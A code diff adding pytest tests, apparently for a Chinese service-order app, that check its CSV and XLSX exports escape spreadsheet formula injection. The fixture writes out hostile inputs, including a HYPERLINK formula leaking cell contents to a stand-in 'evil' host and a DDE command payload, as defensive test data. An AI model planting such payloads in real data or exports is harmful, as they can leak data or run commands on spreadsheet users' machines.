@@ -137,3 +137,67 @@ def test_unknown_format_is_422(client, demo, fmt):
     """Is an unknown format a 422?"""
     response = client.get("/api/v1/stats/export", query_string={"format": fmt}, headers=demo.headers("staff_sy"))
     assert response.status_code == 422
+
+
+# --- formula injection (issue 14, high) --------------------------------------------------------
+
+EVIL = {
+    "title": "=HYPERLINK(\"http://evil/?\"&K2&L2,\"查看详情\")",
+    "description": "+cmd|' /C calc'!A0",
+    "contact_name": "-2+3",
+    "address": "@SUM(1,1)",
+}
+
+
+@pytest.fixture
+def evil_order(app, demo, history):
+    """The first of 松阳's March orders, its resident's text and rating comment written to attack a spreadsheet."""
+    from app.extensions import db
+    from app.orders.models import Order, Rating
+
+    with app.app_context():
+        order = db.session.get(Order, history["orders"][1])
+        for field, value in EVIL.items():
+            setattr(order, field, value)
+        rating = db.session.query(Rating).filter_by(order_id=order.id).one()
+        rating.comment = "\t=1+1"
+        db.session.commit()
+        return order.id
+
+
+def test_csv_export_escapes_text_that_would_be_a_formula(client, demo, evil_order):
+    """Does the csv write a resident's text that starts with =, +, -, @ or a tab with a leading ', so a
+    spreadsheet shows it as typed instead of running it?"""
+    rows = list(csv.reader(io.StringIO(export(client, demo, "csv").get_data().decode("utf-8-sig"))))
+    header = rows[0]
+    row = dict(zip(header, next(r for r in rows[1:] if int(r[0]) == evil_order)))
+    assert row["标题"] == "'" + EVIL["title"]
+    assert row["需求描述"] == "'" + EVIL["description"]
+    assert row["联系人"] == "'" + EVIL["contact_name"]
+    assert row["服务地址"] == "'" + EVIL["address"]
+    assert row["评价内容"] == "'\t=1+1"
+    assert row["联系电话"] == "13800001234"  # plain text is untouched
+
+
+def test_xlsx_export_never_holds_a_formula_from_user_text(client, demo, evil_order):
+    """Does the xlsx hold the resident's text as text cells (data type 's'), never as a formula cell?"""
+    book = load_workbook(io.BytesIO(export(client, demo, "xlsx").get_data()))
+    sheet = book["工单明细"]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == evil_order)
+    cells = dict(zip(header, row))
+    assert cells["标题"].data_type == "s" and cells["标题"].value == "'" + EVIL["title"]
+    assert cells["服务地址"].value == "'" + EVIL["address"] and cells["联系人"].value == "'-2+3"
+    assert cells["评价内容"].value == "'\t=1+1"
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("张大爷", "张大爷"), ("a=1", "a=1"), ("", ""), (None, None), (-1, -1), (3.5, 3.5),
+])
+def test_safe_cell(value, written):
+    """Does the exports' one helper escape exactly text that starts with a formula trigger?"""
+    from app.spreadsheet import safe_cell
+
+    assert safe_cell(value) == written
